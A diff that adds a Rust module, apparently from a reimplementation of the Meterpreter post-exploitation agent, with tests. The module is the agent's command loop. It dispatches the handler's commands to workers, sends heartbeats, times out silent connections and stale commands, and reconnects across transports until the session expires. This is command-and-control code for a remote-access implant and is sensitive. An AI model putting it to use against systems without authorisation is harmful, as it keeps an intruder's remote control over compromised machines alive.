@@ -0,0 +1,834 @@
+use std::collections::HashMap;
+use std::io::{self, ErrorKind};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::mpsc::{self, Receiver, TryRecvError};
+use std::sync::Arc;
+use std::thread;
+use std::time::{Duration, Instant};
+
+use meterpreter_protocol::config::{Config, TransportConfig};
+use meterpreter_protocol::encoder::PacketEncoder;
+use meterpreter_protocol::packet::{Packet, PacketType};
+use tracing::{debug, debug_span, info, trace, warn};
+
+use crate::channel::Batcher;
+use crate::dispatcher::{self, Dispatcher, Route};
+use crate::logging::{self, LoggedTlvs};
+use crate::session::Session;
+use crate::transport::{self, Transport};
+use crate::worker::WorkerPool;
+
+// A command handed to the workers that hasn't been answered yet
+struct InFlight {
+    deadline: Option<Instant>,
+    cancelled: Arc<AtomicBool>,
+    held_back: Receiver<Packet>,
+    response: Packet,
+}
+
+// When the agent gives up on a connection or on the whole session. The handler counts as
+// alive while packets keep coming, once it has been quiet for the heartbeat interval the
+// agent sends heartbeats to get it talking again
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Liveness {
+    pub idle_timeout: Option<Duration>,
+    pub heartbeat_interval: Option<Duration>,
+    pub expires_at: Option<Instant>,
+}
+
+impl Liveness {
+    // From TransCommTimeout in seconds, 0 waits for the handler forever
+    pub fn new(comm_timeout: u32, expires_at: Option<Instant>) -> Liveness {
+        let idle_timeout = (comm_timeout > 0).then(|| Duration::from_secs(comm_timeout as u64));
+        Self {
+            idle_timeout,
+            // a few heartbeats go unanswered before the connection counts as dead
+            heartbeat_interval: idle_timeout.map(|timeout| timeout / 3),
+            expires_at,
+        }
+    }
+}
+
+#[derive(Debug, PartialEq, Eq)]
+pub enum SessionEnd {
+    // the handler hung up, the session is over
+    Closed,
+    // TransSessExp passed
+    Expired,
+}
+
+// Serves requests from the handler and sends the packets the agent produces on its own,
+// until the handler closes the connection. Commands run on the worker pool while this loop
+// keeps moving packets, it is the only one writing to the transport. A handler that stays
+// quiet past the idle timeout ends the loop with a TimedOut error
+pub fn run(
+    transport: &mut dyn Transport,
+    dispatcher: &mut Dispatcher,
+    session: &mut Session,
+    outbound: &Receiver<Packet>,
+    encoder: &mut PacketEncoder,
+    pool: &WorkerPool,
+    liveness: &Liveness,
+) -> io::Result<SessionEnd> {
+    let (completed_sender, completed) = mpsc::channel();
+    let mut in_flight: HashMap<u64, InFlight> = HashMap::new();
+    // outbound queues of the commands that have been answered
+    let mut released: Vec<Receiver<Packet>> = vec![];
+    let mut next_job: u64 = 0;
+    let mut batcher = Batcher::new(session.channels.clone());
+    let mut last_received = Instant::now();
+    let mut last_heartbeat = last_received;
+    loop {
+        match transport.read_packet() {
+            Ok(Some(raw)) => {
+                last_received = Instant::now();
+                session.guid = transport::session_guid(&raw);
+                // the framing is intact, so only this packet is lost
+                let request = match Packet::from_raw(&raw, &mut 0) {
+                    Ok(request) => request,
+                    Err(err) => {
+                        warn!(error = %err, size = raw.len(), "dropping undecodable packet");
+                        continue;
+                    }
+                };
+                // the agent only sends heartbeats, their answers just show the handler is there
+                if matches!(
+                    request.packet_type,
+                    PacketType::Response | PacketType::PlainResponse
+                ) {
+                    trace!(request_id = %logging::request_id(&request), "response received");
+                    continue;
+                }
+                let span = debug_span!(
+                    "received",
+                    method = %logging::method(&request),
+                    request_id = %logging::request_id(&request),
+                    size = raw.len()
+                );
+                let _entered = span.enter();
+                debug!("packet received");
+
+                match dispatcher.route(&request) {
+                    Route::Handler(handler) => {
+                        let command = session.for_command();
+                        let job = next_job;
+                        next_job += 1;
+                        in_flight.insert(
+                            job,
+                            InFlight {
+                                deadline: dispatcher
+                                    .timeout(&request.get_method())
+                                    .map(|timeout| Instant::now() + timeout),
+                                cancelled: command.cancelled,
+                                held_back: command.held_back,
+                                response: request.create_response(),
+                            },
+                        );
+
+                        let completed = completed_sender.clone();
+                        let mut command_session = command.session;
+                        let queued = pool.execute(move || {
+                            let response =
+                                dispatcher::execute(handler, &request, &mut command_session);
+                            let _ = completed.send((job, response));
+                        });
+                        // waiting for a worker would stop this loop, and with it the
+                        // timeouts that free the workers
+                        if queued.is_err() {
+                            let command = in_flight.remove(&job).unwrap();
+                            let response = dispatcher::busy(command.response);
+                            send_after_batch(
+                                transport,
+                                encoder,
+                                &mut batcher,
+                                response,
+                                &session.guid,
+                            )?;
+                        }
+                    }
+                    _ => {
+                        let response = dispatcher.dispatch(&request, session);
+                        send_after_batch(
+                            transport,
+                            encoder,
+                            &mut batcher,
+                            response,
+                            &session.guid,
+                        )?;
+                    }
+                }
+            }
+            Ok(None) => {}
+            Err(err) if err.kind() == ErrorKind::UnexpectedEof => return Ok(SessionEnd::Closed),
+            Err(err) => return Err(err),
+        }
+
+        while let Ok((job, response)) = completed.try_recv() {
+            match in_flight.remove(&job) {
+                Some(command) => {
+                    send_after_batch(transport, encoder, &mut batcher, response, &session.guid)?;
+                    released.push(command.held_back);
+                }
+                None => debug!(
+                    method = %logging::method(&response),
+                    request_id = %logging::request_id(&response),
+                    "dropping the response of a timed out command"
+                ),
+            }
+        }
+
+        let now = Instant::now();
+        let expired: Vec<u64> = in_flight
+            .iter()
+            .filter(|(_, command)| command.deadline.is_some_and(|deadline| deadline <= now))
+            .map(|(job, _)| *job)
+            .collect();
+        for job in expired {
+            let command = in_flight.remove(&job).unwrap();
+            command.cancelled.store(true, Ordering::Relaxed);
+            let response = dispatcher::timed_out(command.response);
+            send_after_batch(transport, encoder, &mut batcher, response, &session.guid)?;
+            released.push(command.held_back);
+        }
+
+        while let Ok(packet) = outbound.try_recv() {
+            send_after_batch(transport, encoder, &mut batcher, packet, &session.guid)?;
+        }
+        let mut index = 0;
+        while index < released.len() {
+            match released[index].try_recv() {
+                Ok(packet) => {
+                    send_after_batch(transport, encoder, &mut batcher, packet, &session.guid)?
+                }
+                Err(TryRecvError::Empty) => index += 1,
+                // every thread the command started is done
+                Err(TryRecvError::Disconnected) => {
+                    released.swap_remove(index);
+                }
+            }
+        }
+        if let Some(mut batch) = batcher.poll(Instant::now()) {
+            send(transport, encoder, &mut batch, &session.guid)?;
+        }
+
+        let now = Instant::now();
+        if liveness
+            .expires_at
+            .is_some_and(|expires_at| expires_at <= now)
+        {
+            info!("session expired");
+            return Ok(SessionEnd::Expired);
+        }
+        let quiet = now - last_received;
+        if liveness
+            .idle_timeout
+            .is_some_and(|timeout| quiet >= timeout)
+        {
+            return Err(io::Error::new(
+                ErrorKind::TimedOut,
+                format!("nothing from the handler for {:?}", quiet),
+            ));
+        }
+        if let Some(interval) = liveness.heartbeat_interval {
+            if quiet >= interval && now - last_heartbeat >= interval {
+                let mut heartbeat = Packet::new(String::from(dispatcher::HEARTBEAT));
+                heartbeat.set_request_id(encoder.request_id());
+                send(transport, encoder, &mut heartbeat, &session.guid)?;
+                last_heartbeat = now;
+            }
+        }
+    }
+}
+
+// Keeps the session going over the configured transports. When a connection fails or the
+// handler goes quiet the transport is tried again every TransRetryWait seconds, once it
+// failed for TransRetryTotal seconds the next transport gets its turn, and after the last
+// one the agent gives up with the error that ended it
+pub fn serve(
+    config: &Config,
+    connect: &mut dyn FnMut(&TransportConfig) -> io::Result<Box<dyn Transport>>,
+    dispatcher: &mut Dispatcher,
+    session: &mut Session,
+    outbound: &Receiver<Packet>,
+    encoder: &mut PacketEncoder,
+    pool: &WorkerPool,
+) -> io::Result<SessionEnd> {
+    // an expiry of 0 never ends the session
+    let expires_at =
+        (config.expiry > 0).then(|| Instant::now() + Duration::from_secs(config.expiry as u64));
+    let mut last_error = io::Error::new(ErrorKind::NotFound, "no transport configured");
+    for transport_config in &config.transports {
+        let liveness = Liveness::new(transport_config.comm_timeout, expires_at);
+        let retry_total = Duration::from_secs(transport_config.retry_total as u64);
+        let retry_wait = Duration::from_secs(transport_config.retry_wait as u64);
+        let mut failing_since = Instant::now();
+        loop {
+            if expires_at.is_some_and(|expires_at| expires_at <= Instant::now()) {
+                info!("session expired");
+                return Ok(SessionEnd::Expired);
+            }
+            match connect(transport_config) {
+                Ok(mut transport) => {
+                    info!(url = %transport_config.url, "connected");
+                    let result = run(
+                        &mut *transport,
+                        dispatcher,
+                        session,
+                        outbound,
+                        encoder,
+                        pool,
+                        &liveness,
+                    );
+                    match result {
+                        Ok(end) => return Ok(end),
+                        Err(err) => {
+                            warn!(url = %transport_config.url, error = %err, "connection lost");
+                            // the retries start over, the connection did work
+                            failing_since = Instant::now();
+                            last_error = err;
+                        }
+                    }
+                }
+                Err(err) => {
+                    warn!(url = %transport_config.url, error = %err, "connecting failed");
+                    last_error = err;
+                }
+            }
+            if failing_since.elapsed() + retry_wait > retry_total {
+                break;
+            }
+            thread::sleep(match expires_at {
+                Some(expires_at) => {
+                    retry_wait.min(expires_at.saturating_duration_since(Instant::now()))
+                }
+                None => retry_wait,
+            });
+        }
+    }
+    Err(last_error)
+}
+
+// Channel data is batched, anything else flushes the batch and goes right after it
+fn send_after_batch(
+    transport: &mut dyn Transport,
+    encoder: &mut PacketEncoder,
+    batcher: &mut Batcher,
+    packet: Packet,
+    session_guid: &[u8],
+) -> io::Result<()> {
+    for mut packet in batcher.add(packet) {
+        send(transport, encoder, &mut packet, session_guid)?;
+    }
+    Ok(())
+}
+
+fn send(
+    transport: &mut dyn Transport,
+    encoder: &mut PacketEncoder,
+    packet: &mut Packet,
+    session_guid: &[u8],
+) -> io::Result<()> {
+    let raw = encoder.encode(packet, session_guid);
+    let span = debug_span!(
+        "sent",
+        method = %logging::method(packet),
+        request_id = %logging::request_id(packet),
+        size = raw.len()
+    );
+    let _entered = span.enter();
+    trace!(tlvs = %LoggedTlvs(&packet.tlvs), "packet");
+
+    let started = Instant::now();
+    transport.write_packet(&raw)?;
+    debug!(
+        elapsed_us = started.elapsed().as_micros() as u64,
+        "packet sent"
+    );
+    Ok(())
+}
+
+#[cfg(test)]
+mod test {
+    use std::io::{self, ErrorKind, Read, Write};
+    use std::net::{Shutdown, SocketAddr, TcpListener};
+    use std::sync::mpsc::{self, Receiver, RecvTimeoutError, Sender};
+    use std::thread::{self, JoinHandle};
+    use std::time::{Duration, Instant};
+
+    use meterpreter_protocol::config::{Config, TransportConfig};
+    use meterpreter_protocol::encoder::PacketEncoder;
+    use meterpreter_protocol::packet::{Packet, PacketResult, PacketType};
+    use meterpreter_protocol::tlv::{Add, Query, TlvType};
+
+    use super::{Liveness, SessionEnd};
+    use crate::channel;
+    use crate::dispatcher::{self, required_value, CommandResult, Dispatcher};
+    use crate::handler::Handler;
+    use crate::session::Session;
+    use crate::transport::recording::{read_records, Direction};
+    use crate::transport::{self, RecordingTransport, StreamTransport, Transport};
+    use crate::worker::WorkerPool;
+
+    // the test plays the handler on the other end of the channels, dropping the sender
+    // hangs up
+    struct ChannelTransport {
+        incoming: Receiver<Vec<u8>>,
+        written: Sender<Vec<u8>>,
+    }
+
+    impl Transport for ChannelTransport {
+        fn read_packet(&mut self) -> io::Result<Option<Vec<u8>>> {
+            match self.incoming.recv_timeout(Duration::from_millis(10)) {
+                Ok(raw) => Ok(Some(raw)),
+                Err(RecvTimeoutError::Timeout) => Ok(None),
+                Err(RecvTimeoutError::Disconnected) => {
+                    Err(io::Error::from(ErrorKind::UnexpectedEof))
+                }
+            }
+        }
+
+        fn write_packet(&mut self, raw: &[u8]) -> io::Result<()> {
+            let _ = self.written.send(raw.to_vec());
+            Ok(())
+        }
+    }
+
+    fn stall(_: &Packet, _: &mut Packet, session: &mut Session) -> CommandResult {
+        while !session.is_cancelled() {
+            thread::sleep(Duration::from_millis(5));
+        }
+        Ok(())
+    }
+
+    fn echo(request: &Packet, response: &mut Packet, _: &mut Session) -> CommandResult {
+        response.add(TlvType::Uint, request.get_u32(TlvType::Uint).unwrap_or(0));
+        Ok(())
+    }
+
+    fn push_then_reply(_: &Packet, _: &mut Packet, session: &mut Session) -> CommandResult {
+        session.outbound().send(channel::close_request(7)).unwrap();
+        thread::sleep(Duration::from_millis(50));
+        Ok(())
+    }
+
+    fn push_many(_: &Packet, _: &mut Packet, session: &mut Session) -> CommandResult {
+        for index in 0..100 {
+            let channel_id = if index < 60 { 3 } else { 4 };
+            session
+                .outbound()
+                .send(channel::write_request(channel_id, vec![index]))
+                .unwrap();
+        }
+        Ok(())
+    }
+
+    // runs the agent with the given dispatcher, sends it the requests and hands back every
+    // packet the agent wrote until nothing more came for a while
+    fn serve(dispatcher: Dispatcher, requests: Vec<Packet>, quiet: Duration) -> Vec<Packet> {
+        serve_pushing(dispatcher, requests, vec![], quiet)
+    }
+
+    // like serve, the pushed packets go through the session's outbound queue once the
+    // requests were sent, the way output of channels does
+    fn serve_pushing(
+        mut dispatcher: Dispatcher,
+        requests: Vec<Packet>,
+        pushed: Vec<Packet>,
+        quiet: Duration,
+    ) -> Vec<Packet> {
+        let (request_sender, incoming) = mpsc::channel();
+        let (written, responses) = mpsc::channel();
+        let mut transport = ChannelTransport { incoming, written };
+        let (sender, receiver) = mpsc::channel();
+        let mut session = Session::new(sender.clone());
+        let pool = WorkerPool::new(2, 2);
+
+        // plays the handler, hanging up ends the agent's loop
+        let handler = thread::spawn(move || {
+            let mut encoder = PacketEncoder::seeded(4);
+            for mut request in requests {
+                request_sender
+                    .send(encoder.encode(&mut request, &[0; 16]))
+                    .unwrap();
+            }
+            for packet in pushed {
+                sender.send(packet).unwrap();
+            }
+            let mut packets = vec![];
+            while let Ok(raw) = responses.recv_timeout(quiet) {
+                packets.push(Packet::from_raw(&raw, &mut 0).unwrap());
+            }
+            packets
+        });
+
+        super::run(
+            &mut transport,
+            &mut dispatcher,
+            &mut session,
+            &receiver,
+            &mut PacketEncoder::seeded(3),
+            &pool,
+            &Liveness::default(),
+        )
+        .unwrap();
+        handler.join().unwrap()
+    }
+
+    fn request(method: &str, request_id: &str) -> Packet {
+        let mut request = Packet::new(String::from(method));
+        request.set_request_id(String::from(request_id));
+        request
+    }
+
+    #[test]
+    fn test_slow_command_times_out_without_blocking_others() {
+        let mut dispatcher = Dispatcher::new();
+        dispatcher.register("test_stall", stall);
+        dispatcher.register("test_echo", echo);
+        dispatcher.set_timeout("test_stall", Some(Duration::from_millis(300)));
+        let mut echo_request = request("test_echo", "2");
+        echo_request.add(TlvType::Uint, 5);
+
+        let packets = serve(
+            dispatcher,
+            vec![request("test_stall", "1"), echo_request],
+            Duration::from_millis(600),
+        );
+
+        // the stalled command is answered once, its late response is dropped
+        assert_eq!(packets.len(), 2);
+        assert_eq!(packets[0].get_request_id(), "2");
+        assert_eq!(packets[0].get_u32(TlvType::Uint), Some(5));
+        assert_eq!(packets[1].get_request_id(), "1");
+        assert_eq!(packets[1].get_result(), Ok(PacketResult::Timeout));
+    }
+
+    #[test]
+    fn test_full_pool_keeps_the_loop_going() {
+        let mut dispatcher = Dispatcher::new();
+        dispatcher.register("test_stall", stall);
+        dispatcher.set_timeout("test_stall", Some(Duration::from_millis(300)));
+        // two workers and two queued, the rest find the pool full
+        let requests = (1..=6)
+            .map(|id| request("test_stall", &id.to_string()))
+            .collect();
+
+        let packets = serve_pushing(
+            dispatcher,
+            requests,
+            vec![channel::write_request(5, b"output".to_vec())],
+            Duration::from_millis(600),
+        );
+
+        // every request is answered once, the queue takes at least two whether or not the
+        // workers took theirs off it yet
+        let mut results = vec![];
+        for request_id in 1..=6 {
+            let replies: Vec<&Packet> = packets
+                .iter()
+                .filter(|packet| packet.get_request_id() == request_id.to_string())
+                .collect();
+            assert_eq!(replies.len(), 1, "replies to {}", request_id);
+            results.push(replies[0].get_result().unwrap());
+        }
+        let count = |result| results.iter().filter(|&&other| other == result).count();
+        assert!(count(PacketResult::Timeout) >= 2, "{:?}", results);
+        assert!(count(PacketResult::Busy) >= 2, "{:?}", results);
+        assert_eq!(count(PacketResult::Timeout) + count(PacketResult::Busy), 6);
+        let writes: Vec<&Packet> = packets
+            .iter()
+            .filter(|packet| packet.get_method() == "core_channel_write")
+            .collect();
+        assert_eq!(writes.len(), 1);
+        assert_eq!(channel::channel_writes(writes[0]), [(5, &b"output"[..])]);
+        assert_eq!(packets.len(), 7);
+    }
+
+    #[test]
+    fn test_packets_of_a_command_follow_its_response() {
+        let mut dispatcher = Dispatcher::new();
+        dispatcher.register("test_push", push_then_reply);
+
+        let packets = serve(
+            dispatcher,
+            vec![request("test_push", "1")],
+            Duration::from_millis(300),
+        );
+
+        assert_eq!(packets.len(), 2);
+        assert_eq!(packets[0].get_request_id(), "1");
+        assert_eq!(packets[0].packet_type, PacketType::Response);
+        assert_eq!(packets[1].get_method(), "core_channel_close");
+    }
+
+    #[test]
+    fn test_channel_output_is_batched() {
+        let mut dispatcher = Dispatcher::new();
+        dispatcher.register("test_push_many", push_many);
+
+        let packets = serve(
+            dispatcher,
+            vec![request("test_push_many", "1")],
+            Duration::from_millis(300),
+        );
+
+        assert_eq!(packets.len(), 2);
+        assert_eq!(packets[0].get_request_id(), "1");
+        let expected: Vec<u8> = (0..100).collect();
+        assert_eq!(
+            channel::channel_writes(&packets[1]),
+            [(3, &expected[..60]), (4, &expected[60..])]
+        );
+    }
+
+    #[test]
+    fn test_run_over_tcp_with_recording() {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let address = listener.local_addr().unwrap();
+        let session_guid = [9; 16];
+
+        // plays the handler: one request, then it hangs up
+        let handler = thread::spawn(move || {
+            let (mut stream, _) = listener.accept().unwrap();
+            let mut request = Packet::new(String::from("core_enumextcmd"));
+            let raw = PacketEncoder::seeded(1).encode(&mut request, &session_guid);
+            stream.write_all(&raw).unwrap();
+
+            let mut header = [0; Packet::HEADER_SIZE as usize];
+            stream.read_exact(&mut header).unwrap();
+            let mut response = header.to_vec();
+            response.resize(transport::frame_length(&header), 0);
+            stream
+                .read_exact(&mut response[Packet::HEADER_SIZE as usize..])
+                .unwrap();
+            stream.shutdown(Shutdown::Both).unwrap();
+            response
+        });
+
+        let mut dispatcher = Dispatcher::new();
+        channel::register(&mut dispatcher);
+        let (sender, receiver) = mpsc::channel();
+        let mut session = Session::new(sender);
+        let mut recording = vec![];
+        let mut transport =
+            RecordingTransport::new(StreamTransport::connect(address).unwrap(), &mut recording)
+                .unwrap();
+        super::run(
+            &mut transport,
+            &mut dispatcher,
+            &mut session,
+            &receiver,
+            &mut PacketEncoder::seeded(2),
+            &WorkerPool::new(2, 2),
+            &Liveness::default(),
+        )
+        .unwrap();
+        drop(transport);
+
+        let raw_response = handler.join().unwrap();
+        assert_eq!(transport::session_guid(&raw_response), session_guid);
+        let response = Packet::from_raw(&raw_response, &mut 0).unwrap();
+        assert_eq!(response.packet_type, PacketType::Response);
+        assert_eq!(
+            required_value(&response, TlvType::String).unwrap().clone(),
+            "core_channel_close"
+        );
+
+        let records = read_records(&recording[..]).unwrap();
+        assert_eq!(records.len(), 2);
+        assert_eq!(records[0].direction, Direction::Received);
+        assert_eq!(records[1].direction, Direction::Sent);
+        assert_eq!(records[1].raw, raw_response);
+    }
+
+    // plays a handler that took the connection and then stopped responding, it hands back
+    // what the agent sent until the agent hung up
+    fn silent_handler() -> (SocketAddr, JoinHandle<Vec<Packet>>) {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let address = listener.local_addr().unwrap();
+        let handler = thread::spawn(move || {
+            let (stream, _) = listener.accept().unwrap();
+            let mut transport = StreamTransport::new(stream);
+            let mut packets = vec![];
+            while let Ok(Some(raw)) = transport.read_packet() {
+                packets.push(Packet::from_raw(&raw, &mut 0).unwrap());
+            }
+            packets
+        });
+        (address, handler)
+    }
+
+    fn run_connected(address: SocketAddr, liveness: &Liveness) -> io::Result<SessionEnd> {
+        let (sender, receiver) = mpsc::channel();
+        super::run(
+            &mut StreamTransport::connect(address).unwrap(),
+            &mut Dispatcher::new(),
+            &mut Session::new(sender),
+            &receiver,
+            &mut PacketEncoder::seeded(5),
+            &WorkerPool::new(1, 1),
+            liveness,
+        )
+    }
+
+    fn transport_config(url: &str, comm_timeout: u32, retry_total: u32) -> TransportConfig {
+        TransportConfig {
+            url: String::from(url),
+            comm_timeout,
+            retry_total,
+            retry_wait: 0,
+        }
+    }
+
+    fn serve_config(
+        config: &Config,
+        connect: &mut dyn FnMut(&TransportConfig) -> io::Result<Box<dyn Transport>>,
+    ) -> io::Result<SessionEnd> {
+        let (sender, receiver) = mpsc::channel();
+        super::serve(
+            config,
+            connect,
+            &mut Dispatcher::new(),
+            &mut Session::new(sender),
+            &receiver,
+            &mut PacketEncoder::seeded(6),
+            &WorkerPool::new(1, 1),
+        )
+    }
+
+    #[test]
+    fn test_liveness_from_comm_timeout() {
+        let liveness = Liveness::new(30, None);
+        assert_eq!(liveness.idle_timeout, Some(Duration::from_secs(30)));
+        assert_eq!(liveness.heartbeat_interval, Some(Duration::from_secs(10)));
+        assert_eq!(Liveness::new(0, None).idle_timeout, None);
+        assert_eq!(Liveness::new(0, None).heartbeat_interval, None);
+    }
+
+    #[test]
+    fn test_silent_handler_is_detected() {
+        let (address, handler) = silent_handler();
+        let started = Instant::now();
+        let result = run_connected(
+            address,
+            &Liveness {
+                idle_timeout: Some(Duration::from_millis(400)),
+                heartbeat_interval: Some(Duration::from_millis(100)),
+                expires_at: None,
+            },
+        );
+
+        assert_eq!(result.unwrap_err().kind(), ErrorKind::TimedOut);
+        assert!(started.elapsed() >= Duration::from_millis(400));
+        let packets = handler.join().unwrap();
+        assert!(packets.len() >= 2, "{} heartbeats", packets.len());
+        assert!(packets
+            .iter()
+            .all(|packet| packet.get_method() == dispatcher::HEARTBEAT));
+    }
+
+    #[test]
+    fn test_answered_heartbeats_keep_the_connection() {
+        let handler = Handler::listen("127.0.0.1:0").unwrap();
+        let address = handler.local_addr();
+        let agent = thread::spawn(move || {
+            run_connected(
+                address,
+                &Liveness {
+                    idle_timeout: Some(Duration::from_millis(300)),
+                    heartbeat_interval: Some(Duration::from_millis(50)),
+                    expires_at: None,
+                },
+            )
+            .unwrap()
+        });
+
+        thread::sleep(Duration::from_millis(900));
+        let session = handler.sessions().remove(0);
+        session.close();
+        assert_eq!(agent.join().unwrap(), SessionEnd::Closed);
+    }
+
+    #[test]
+    fn test_session_expires() {
+        let (address, handler) = silent_handler();
+        let result = run_connected(
+            address,
+            &Liveness {
+                expires_at: Some(Instant::now() + Duration::from_millis(200)),
+                ..Liveness::default()
+            },
+        );
+        assert_eq!(result.unwrap(), SessionEnd::Expired);
+        assert!(handler.join().unwrap().is_empty());
+
+        // the session also ends while the agent waits to reconnect
+        let config = Config {
+            expiry: 1,
+            transports: vec![TransportConfig {
+                retry_wait: 60,
+                ..transport_config("tcp://unreachable", 0, 3600)
+            }],
+            ..Config::default()
+        };
+        let started = Instant::now();
+        let result = serve_config(&config, &mut |_| {
+            Err(io::Error::from(ErrorKind::ConnectionRefused))
+        });
+        assert_eq!(result.unwrap(), SessionEnd::Expired);
+        assert!(started.elapsed() < Duration::from_secs(5));
+    }
+
+    #[test]
+    fn test_reconnects_after_a_stall() {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let address = listener.local_addr().unwrap();
+        // the first connection goes quiet, the second one hangs up right away
+        let handler = thread::spawn(move || {
+            let (stalled, _) = listener.accept().unwrap();
+            let (closed, _) = listener.accept().unwrap();
+            closed.shutdown(Shutdown::Both).unwrap();
+            drop(stalled);
+        });
+
+        let config = Config {
+            transports: vec![transport_config("tcp://stalling", 1, 60)],
+            ..Config::default()
+        };
+        let mut connections = 0;
+        let result = serve_config(&config, &mut |transport| {
+            assert_eq!(transport.url, "tcp://stalling");
+            connections += 1;
+            Ok(Box::new(StreamTransport::connect(address)?))
+        });
+
+        assert_eq!(result.unwrap(), SessionEnd::Closed);
+        assert_eq!(connections, 2);
+        handler.join().unwrap();
+    }
+
+    #[test]
+    fn test_gives_up_after_the_last_transport() {
+        let config = Config {
+            transports: vec![
+                transport_config("tcp://first", 0, 0),
+                transport_config("tcp://second", 0, 0),
+            ],
+            ..Config::default()
+        };
+        let mut tried = vec![];
+        let result = serve_config(&config, &mut |transport| {
+            tried.push(transport.url.clone());
+            Err(io::Error::from(ErrorKind::ConnectionRefused))
+        });
+
+        assert_eq!(result.unwrap_err().kind(), ErrorKind::ConnectionRefused);
+        assert_eq!(tried, ["tcp://first", "tcp://second"]);
+        assert_eq!(
+            serve_config(&Config::default(), &mut |_| unreachable!())
+                .unwrap_err()
+                .kind(),
+            ErrorKind::NotFound
+        );
+    }
+}